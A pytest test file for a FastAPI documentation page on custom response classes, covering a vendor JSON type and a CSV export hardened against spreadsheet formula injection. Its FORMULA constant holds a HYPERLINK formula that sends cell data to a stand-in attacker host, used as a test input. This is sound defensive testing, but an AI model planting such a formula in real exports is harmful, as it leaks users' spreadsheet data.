"""Behaviour of the examples on docs/custom_response_class.md: what the page claims, asserted."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import date
from decimal import Decimal
from types import ModuleType
from typing import Any

import pytest
from fastapi import APIRouter, FastAPI, HTTPException
from fastapi.responses import JSONResponse
from fastapi.testclient import TestClient
from pydantic import BaseModel

from examples.custom_response_class import csv_export, csv_mistake, vendor_json

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Details")'


@pytest.fixture(autouse=True)
def fresh_contacts() -> Iterator[None]:
    saved = {module: list(module.CONTACTS) for module in (csv_export, csv_mistake)}
    yield
    for module, contacts in saved.items():
        module.CONTACTS.clear()
        module.CONTACTS.extend(contacts)


def export_rows(module: ModuleType, *contacts: dict[str, str]) -> list[dict[str, str]]:
    client = TestClient(module.app)
    for contact in contacts:
        assert client.post("/contacts", params=contact).status_code == 201
    response = client.get("/contacts.csv")
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    return list(csv.DictReader(io.StringIO(response.text)))


# --- vendor_json ------------------------------------------------------------


def test_the_default_class_sets_the_vendor_media_type_without_a_charset() -> None:
    response = TestClient(vendor_json.app).get("/articles/1")

    assert response.status_code == 200
    assert response.headers["content-type"] == "application/vnd.api+json"
    assert response.content == (
        b'{"data":{"type":"articles","id":"1","attributes":{"title":"Dune"}}}'
    )


def test_render_writes_compact_utf8_json(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(vendor_json.ARTICLES, 3, {"title": "Zoë ✓"})

    response = TestClient(vendor_json.app).get("/articles/3")

    expected = '{"data":{"type":"articles","id":"3","attributes":{"title":"Zoë ✓"}}}'
    assert response.content == expected.encode("utf-8")


def test_fastapi_own_error_answers_stay_plain_json() -> None:
    client = TestClient(vendor_json.app)

    invalid = client.get("/articles/abc")
    assert invalid.status_code == 422
    assert invalid.headers["content-type"] == "application/json"
    assert invalid.json()["detail"][0]["loc"] == ["path", "article_id"]

    unknown = client.get("/nothing/here")
    assert unknown.status_code == 404
    assert unknown.headers["content-type"] == "application/json"
    assert unknown.json() == {"detail": "Not Found"}

    wrong_method = client.post("/articles/1")
    assert wrong_method.status_code == 405
    assert wrong_method.headers["content-type"] == "application/json"


def test_an_http_exception_stays_plain_json_under_a_default_class() -> None:
    app = FastAPI(default_response_class=vendor_json.JsonApiResponse)

    @app.get("/gone")
    def gone() -> Day:
        raise HTTPException(status_code=404, detail="nope")

    response = TestClient(app).get("/gone")
    assert response.status_code == 404
    assert response.headers["content-type"] == "application/json"
    assert response.json() == {"detail": "nope"}


def test_a_returned_instance_goes_out_as_it_is() -> None:
    response = TestClient(vendor_json.app).get("/articles/2")

    # Not a Document, yet no 500: a returned response is neither validated nor
    # rendered again.
    assert response.status_code == 404
    assert response.headers["content-type"] == "application/vnd.api+json"
    assert response.json() == {
        "errors": [{"status": "404", "title": "No such article"}]
    }


def spy_on_render(
    monkeypatch: pytest.MonkeyPatch, cls: type[JSONResponse]
) -> list[Any]:
    received: list[Any] = []
    original = cls.render

    def render(self: JSONResponse, content: Any) -> bytes:
        received.append(content)
        return original(self, content)

    monkeypatch.setattr(cls, "render", render)
    return received


def test_render_receives_the_validated_value_as_python_data(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    received = spy_on_render(monkeypatch, vendor_json.JsonApiResponse)

    TestClient(vendor_json.app).get("/articles/1")

    # A dict, already validated and filtered (no draft_notes), not JSON bytes.
    assert received == [
        {"data": {"type": "articles", "id": "1", "attributes": {"title": "Dune"}}}
    ]


class Day(BaseModel):
    day: str


def typed_app(
    app_options: dict[str, Any] | None = None,
    router_options: dict[str, Any] | None = None,
    include_options: dict[str, Any] | None = None,
    route_options: dict[str, Any] | None = None,
) -> FastAPI:
    app = FastAPI(**(app_options or {}))
    router = APIRouter(**(router_options or {}))

    @router.get("/day", **(route_options or {}))
    def day() -> Day:
        return Day(day="Monday")

    app.include_router(router, **(include_options or {}))
    return app


def test_the_untouched_default_skips_render(monkeypatch: pytest.MonkeyPatch) -> None:
    received = spy_on_render(monkeypatch, JSONResponse)

    default = TestClient(typed_app()).get("/day")
    assert default.json() == {"day": "Monday"}
    assert received == []  # Pydantic wrote the bytes; no JSONResponse was made


@pytest.mark.parametrize(
    "level", ["app_options", "router_options", "include_options", "route_options"]
)
def test_naming_json_response_at_any_level_goes_through_render(
    monkeypatch: pytest.MonkeyPatch, level: str
) -> None:
    received = spy_on_render(monkeypatch, JSONResponse)
    option = "response_class" if level == "route_options" else "default_response_class"
    app = typed_app(**{level: {option: JSONResponse}})

    named = TestClient(app).get("/day")
    assert named.json() == {"day": "Monday"}
    assert received == [{"day": "Monday"}]


def test_openapi_shows_the_model_under_the_vendor_media_type() -> None:
    operation = vendor_json.app.openapi()["paths"]["/articles/{article_id}"]["get"]

    assert operation["responses"]["200"]["content"] == {
        "application/vnd.api+json": {
            "schema": {"$ref": "#/components/schemas/Document"}
        }
    }


# --- csv_mistake and csv_export ---------------------------------------------


def test_the_mistake_exports_a_formula() -> None:
    rows = export_rows(csv_mistake, {"name": FORMULA, "city": "Oslo"})

    assert rows[-1] == {"name": FORMULA, "city": "Oslo"}


def read_csv(body: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body.decode())))


# OWASP's community page lists = + - @ TAB CR; ASVS 5.0 (1.2.10) adds NUL.
@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\0"])
def test_the_fix_exports_no_cell_that_starts_a_formula(start: str) -> None:
    value = start + "1+1"
    mistake = export_rows(csv_mistake, {"name": value, "city": value})
    fixed = read_csv(csv_export.ContactsCSV([{"name": value, "city": value}]).body)

    assert mistake[-1] == {"name": value, "city": value}
    assert fixed == [{"name": "'" + value, "city": "'" + value}]


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_the_fix_quotes_formulas_that_come_in_through_the_api(start: str) -> None:
    value = start + "1+1"

    assert export_rows(csv_export, {"name": value, "city": "Oslo"})[-1] == {
        "name": "'" + value,
        "city": "Oslo",
    }


@pytest.mark.parametrize(
    "value",
    [
        "\0=1+1",
        "a\0b",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "a\nb",
        "a\x7fb",
        " =1+1",
        "\xa0=1+1",
        "\ufeff=1+1",  # a byte order mark
        "\u200b=1+1",  # a zero-width space
        "\u202e=1+1",  # a right-to-left override
        "\xad=1+1",  # a soft hyphen
        "a\u2029b",  # a paragraph separator
        "a\u2028b",  # a line separator
        "a\x85b",  # NEL, a C1 control: a line break to some readers
        "a\x9bb",  # CSI, a C1 control that starts terminal escape codes
    ],
)
def test_the_fix_refuses_control_characters_and_leading_whitespace(value: str) -> None:
    client = TestClient(csv_export.app)

    for contact in ({"name": value, "city": "Oslo"}, {"name": "Ada", "city": value}):
        response = client.post("/contacts", params=contact)
        assert response.status_code == 422
        assert response.json()["detail"][0]["type"] == "string_pattern_mismatch"
    assert value not in client.get("/contacts.csv").text


def test_the_fix_accepts_ordinary_text() -> None:
    name = "Zoë O'Neil-Ba \U0001f469\u200d\U0001f4bb"  # a zero-width joiner inside
    rows = export_rows(csv_export, {"name": name, "city": "Tromsø"})

    assert rows[-1] == {"name": name, "city": "Tromsø"}


@pytest.mark.parametrize("module", [csv_mistake, csv_export])
def test_an_empty_export_is_the_header_line(module: ModuleType) -> None:
    module.CONTACTS.clear()

    response = TestClient(module.app).get("/contacts.csv")

    assert response.status_code == 200
    assert response.content == b"name,city\r\n"


class Person(BaseModel):
    name: str
    phone: str | None = None


class PeopleCSV(csv_export.CSVResponse):
    columns = tuple(Person.model_fields)


def test_rows_with_missing_keys_get_empty_cells() -> None:
    app = FastAPI()

    @app.get("/people.csv", response_class=PeopleCSV, response_model_exclude_none=True)
    def people() -> list[Person]:
        return [Person(name="a"), Person(name="b", phone="+47")]

    response = TestClient(app).get("/people.csv")
    assert response.status_code == 200
    assert response.content == b"name,phone\r\na,\r\nb,'+47\r\n"


def test_keys_outside_the_columns_are_left_out() -> None:
    body = csv_export.ContactsCSV([{"name": "a", "city": "b", "extra": "c"}]).body

    assert body == b"name,city\r\na,b\r\n"


def test_ordinary_cells_are_left_alone() -> None:
    rows = export_rows(csv_export, {"name": "Ada = 1", "city": "London"})

    assert rows[-1] == {"name": "Ada = 1", "city": "London"}


@pytest.mark.parametrize("module", [csv_mistake, csv_export])
def test_commas_quotes_and_newlines_survive_the_round_trip(module: ModuleType) -> None:
    tricky = {"name": 'Lee, "Sam"\nJr.', "city": "a,b\r\nc"}

    assert read_csv(module.ContactsCSV([tricky]).body) == [tricky]


def test_the_export_is_bounded() -> None:
    long = {"name": "x" * 100, "city": "y" * 100}
    rows = export_rows(csv_export, *[long] * 60)

    assert len(rows) == 50
    too_long = {"name": "x" * 101, "city": "y"}
    assert (
        TestClient(csv_export.app).post("/contacts", params=too_long).status_code == 422
    )


def test_openapi_shows_only_a_string_for_a_class_that_is_not_json() -> None:
    operation = csv_export.app.openapi()["paths"]["/contacts.csv"]["get"]

    assert operation["responses"]["200"]["content"] == {
        "text/csv": {"schema": {"type": "string"}}
    }


def test_render_receives_a_list_of_dicts_for_a_list_return_type(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    received: list[Any] = []
    original = csv_export.CSVResponse.render

    def render(self: csv_export.CSVResponse, content: Any) -> bytes:
        received.append(content)
        return original(self, content)

    monkeypatch.setattr(csv_export.CSVResponse, "render", render)
    TestClient(csv_export.app).get("/contacts.csv")

    assert received == [[{"name": "Ada", "city": "London"}]]


def test_charset_sets_both_the_header_and_the_encoding() -> None:
    class Latin1CSV(csv_export.ContactsCSV):
        charset = "latin-1"

    response = Latin1CSV([{"name": "Zoë", "city": "Tromsø"}])

    assert response.headers["content-type"] == "text/csv; charset=latin-1"
    assert response.body == "name,city\r\nZoë,Tromsø\r\n".encode("latin-1")


def test_a_character_outside_the_charset_is_a_500() -> None:
    class Latin1CSV(csv_export.ContactsCSV):
        charset = "latin-1"

    app = FastAPI()

    @app.get("/contacts.csv", response_class=Latin1CSV)
    def contacts(name: str) -> list[csv_export.Contact]:
        return [csv_export.Contact(name=name, city="Oslo")]

    client = TestClient(app, raise_server_exceptions=False)
    assert client.get("/contacts.csv", params={"name": "Zoë"}).status_code == 200
    assert client.get("/contacts.csv", params={"name": "Ωmega"}).status_code == 500
    with pytest.raises(UnicodeEncodeError):
        TestClient(app).get("/contacts.csv", params={"name": "Ωmega"})


def test_a_returned_instance_keeps_its_media_type_while_the_document_does_not_know() -> (
    None
):
    app = FastAPI()

    @app.get("/day")
    def day() -> Day:
        return vendor_json.JsonApiResponse({"day": "Monday"})

    response = TestClient(app).get("/day")
    assert response.headers["content-type"] == "application/vnd.api+json"
    content = app.openapi()["paths"]["/day"]["get"]["responses"]["200"]["content"]
    assert list(content) == ["application/json"]


def test_an_untyped_route_hands_render_the_encoded_value_unchecked(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    received = spy_on_render(monkeypatch, vendor_json.JsonApiResponse)
    app = FastAPI(default_response_class=vendor_json.JsonApiResponse)

    @app.get("/day")
    def day():
        return Day(day="Monday")

    response = TestClient(app).get("/day")
    assert response.headers["content-type"] == "application/vnd.api+json"
    assert received == [{"day": "Monday"}]
    assert type(received[0]) is dict


def test_only_text_cells_are_touched() -> None:
    assert csv_export.inert(-5) == -5
    assert csv_export.inert(1.5) == 1.5
    assert csv_export.inert("-5") == "'-5"


class Payment(BaseModel):
    amount: Decimal
    count: int


class PaymentsCSV(csv_export.CSVResponse):
    columns = tuple(Payment.model_fields)


def test_a_negative_decimal_arrives_as_text_and_gains_the_quote() -> None:
    app = FastAPI()

    @app.get("/payments.csv", response_class=PaymentsCSV)
    def payments() -> list[Payment]:
        return [Payment(amount=Decimal("-5.10"), count=-3)]

    response = TestClient(app).get("/payments.csv")
    assert response.content == b"amount,count\r\n'-5.10,-3\r\n"


def test_stripping_the_quote_is_ambiguous_for_values_that_start_with_one() -> None:
    assert csv_export.inert("'=x") == csv_export.inert("=x") == "'=x"


class Meeting(BaseModel):
    on: date


def test_render_gets_dates_already_as_strings(monkeypatch: pytest.MonkeyPatch) -> None:
    received = spy_on_render(monkeypatch, vendor_json.JsonApiResponse)
    app = FastAPI(default_response_class=vendor_json.JsonApiResponse)

    @app.get("/meeting")
    def meeting() -> Meeting:
        return Meeting(on=date(2026, 1, 2))

    assert TestClient(app).get("/meeting").json() == {"on": "2026-01-02"}
    assert received == [{"on": "2026-01-02"}]


def test_the_export_is_a_download_with_a_fixed_name() -> None:
    response = TestClient(csv_export.app).get("/contacts.csv")

    assert (
        response.headers["content-disposition"] == 'attachment; filename="contacts.csv"'
    )
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
